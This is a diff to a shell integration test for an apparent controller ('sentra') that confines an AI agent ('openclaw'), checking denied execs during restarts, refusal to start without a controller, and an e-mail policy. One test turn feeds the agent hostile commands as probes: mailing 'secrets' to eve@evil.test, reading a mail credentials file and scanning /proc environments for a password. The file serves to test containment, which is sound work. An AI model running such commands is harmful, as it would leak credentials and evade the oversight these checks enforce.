@@ -99,7 +99,7 @@ check "openclaw-start starts both units" /usr/local/bin/openclaw-start
 took start "$t"
 check "sentra.service is active (Type=notify: ready only when enforcing)" systemctl is-active sentra.service
 if sentra-ctl status | jq -e '.backend == "lsm"' >/dev/null; then ok "the controller enforces with the lsm backend"; else
-    bad "the controller enforces with the lsm backend" "$(sentra-ctl status | jq -c '{backend}'; journalctl -u sentra -n 30 --no-pager | grep -i -E 'backend|lsm|error|warn' | tr '\n' '|')"; fi
+    bad "the controller enforces with the lsm backend" "$(sentra-ctl status | jq -c '{backend, lsm_refusal}'; journalctl -u sentra --no-pager | grep -i -E 'backend|lsm' | tr '\n' '|')"; fi
 check "openclaw.service is active" systemctl is-active openclaw.service
 t=$(since)
 if wait_for 900 gateway_up; then ok "the governed gateway listens on 127.0.0.1:18789"; else
@@ -143,7 +143,7 @@ check "the shell-layer denial is audited" sh -c "grep '\"decision\":\"denied\"' 
 # which the agent then tries to read: the file, and every process's environment and command line it can
 # see; the pattern's brackets keep grep from finding itself), a recipient outside the policy is refused
 # with rule and reason.
-turn "email bob@allowed.test 'Hello from the agent' 'mail-body-\$((6*7))'; echo mail-rc=\$?; send-email eve@evil.test 'Leak' 'secrets'; echo leak-rc=\$?; cat /etc/sentra/email/himalaya.toml; echo cat-rc=\$?; grep -l 'mail-pw-[s]ystemd' /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; echo scan-done" > /root/reply.email
+turn "email bob@allowed.test 'Hello from the agent' \"mail-body-\$((6*7))\"; echo mail-rc=\$?; send-email eve@evil.test 'Leak' 'secrets'; echo leak-rc=\$?; cat /etc/sentra/email/himalaya.toml; echo cat-rc=\$?; grep -l 'mail-pw-[s]ystemd' /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; echo scan-done" > /root/reply.email
 transcript email /root/reply.email
 check "an allowed e-mail is sent and the agent is told" sh -c 'grep -q "Email sent to bob@allowed.test" /root/reply.email && grep -q "mail-rc=0" /root/reply.email'
 check "the mail server got it from the policy's sender, authenticated by the broker" sh -c \
@@ -160,19 +160,21 @@ echo "SYSTEMD-TEST audit email: $(grep '"event":"email"' $AUDIT | tr '\n' ' ' | 
 # --- restarts ----------------------------------------------------------------------------------
 # A root process in the agent's cgroup keeps trying a denied exec while the controller restarts:
 # every attempt must be refused (the pins enforce while no controller runs).
+# Decided means refused (126: the lsm backend's EPERM) or killed (137: the signal backend); nologin
+# running would exit 1. The shell's own "Killed" notices go to stderr, the counts to the file.
 cat > /root/probe.sh <<'EOF'
 echo $$ > "$1/cgroup.procs"
 end=$(( $(date +%s) + $2 ))
 n=0 ran=0
 while [ "$(date +%s)" -lt "$end" ]; do
     /usr/sbin/nologin >/dev/null 2>&1
-    [ $? -eq 126 ] || ran=$((ran + 1))
+    case $? in 126|137) ;; *) ran=$((ran + 1)) ;; esac
     n=$((n + 1))
 done
-echo "$n $ran"
+echo "$n $ran" > "$3"
 EOF
 cg="$(launch_cgroup)"
-bash /root/probe.sh "$cg" 60 > /root/probe.out 2>&1 &
+bash /root/probe.sh "$cg" 60 /root/probe.out 2>/dev/null &
 probe=$!
 sleep 5
 t=$(since)
@@ -198,13 +200,15 @@ check "the old launch cgroup was released" sh -c "grep '\"launch_released\"' $AU
 # SIGTERM ends the controller, not enforcement; masked, it cannot be pulled in again by openclaw's Wants=.
 systemctl stop openclaw.service sentra.service
 systemctl mask --runtime sentra.service >/dev/null 2>&1
+t0=$(since)
 systemctl start openclaw.service >/dev/null 2>&1
-sleep 5
+# The launcher refuses within seconds; systemd then retries every 5 s (Restart=on-failure).
+wait_for 120 sh -c "journalctl -u openclaw --since @$t0 --no-pager | grep -q 'did not govern'"
 if ! ls -d /sys/fs/cgroup/system.slice/openclaw.service/sentra-launch-* 2>/dev/null | grep -q . \
-    && journalctl -u openclaw -n 20 --no-pager | grep -q 'did not govern'; then
+    && journalctl -u openclaw --since "@$t0" --no-pager | grep -q 'did not govern'; then
     ok "openclaw does not start its agent without a controller"
 else
-    bad "openclaw does not start its agent without a controller" "$(journalctl -u openclaw -n 12 --no-pager | tr '\n' '|')"
+    bad "openclaw does not start its agent without a controller" "$(journalctl -u openclaw --since "@$t0" --no-pager | tail -n 25 | tr '\n' '|')"
 fi
 systemctl stop openclaw.service
 systemctl unmask --runtime sentra.service >/dev/null 2>&1
